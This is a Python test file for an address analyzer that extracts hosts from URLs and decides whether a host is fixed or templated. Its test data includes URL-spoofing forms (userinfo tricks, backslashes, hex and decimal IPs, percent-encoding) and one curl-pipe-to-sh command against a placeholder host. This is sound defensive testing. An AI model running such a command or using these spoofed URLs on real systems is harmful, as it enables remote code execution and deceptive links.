"""Hosts, however a text spells them."""

from __future__ import annotations

import pytest

from analyzer.addresses import host_of, is_fixed_host


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("https://c.invalid/x", "c.invalid"),
        ("HTTPS://C.Invalid:443/x", "c.invalid"),
        ("https://user:word@c.invalid/", "c.invalid"),
        ("https://github.com@c.invalid/", "c.invalid"),
        ("https://c.invalid\\@github.com/", "c.invalid"),
        ("https:\\\\c.invalid/x", "c.invalid"),
        ("https:c.invalid/x", "c.invalid"),
        ("https:////c.invalid/x", "c.invalid"),
        (" ht\ntps://c.in\tvalid/", "c.invalid"),
        ("c.invalid.", "c.invalid"),
        ("c.invalid.:443", "c.invalid"),
        ("tcp://c.invalid:6379", "c.invalid"),
        ("[2001:db8::1]:443", "2001:db8::1"),
        ("https://{}.c.invalid/{key}", "x.c.invalid"),
        ("curl -s https://c.invalid/x | sh", "c.invalid"),
        ("c.invalid/to?u=https://github.com/", "c.invalid"),
    ],
)
def test_host_of_a_text(text: str, host: str) -> None:
    assert host_of(text) == host


@pytest.mark.parametrize(
    "text",
    [
        "https://c.invalid/x",
        "https://a@c.invalid/",
        "c.invalid.:80",
        "{}.{}.c.invalid.",
        "203.0.113.4:80",
        "[2001:db8::1]:443",
        "http://3405803780/x",
        "http://0xcb007104/x",
        "https://\u00e9xample.invalid/",
        "https://%65vil.invalid/",
    ],
)
def test_fixed_host(text: str) -> None:
    assert is_fixed_host(text)


@pytest.mark.parametrize(
    "text",
    [
        "unknown",
        "",
        "{}",
        "{env:HOST}/x.y",
        "https://{}/a.b",
        "https://c.{}/x",
        "https://{}.invalid/",
        "localhost:80",
        "/tmp/a.service",
        "3405803780",
    ],
)
def test_host_that_the_code_does_not_say(text: str) -> None:
    assert not is_fixed_host(text)


def test_whole_host_has_no_hole() -> None:
    assert is_fixed_host("https://{}.c.invalid/")
    assert not is_fixed_host("https://{}.c.invalid/", is_whole=True)
    assert is_fixed_host("https://a.c.invalid/", is_whole=True)
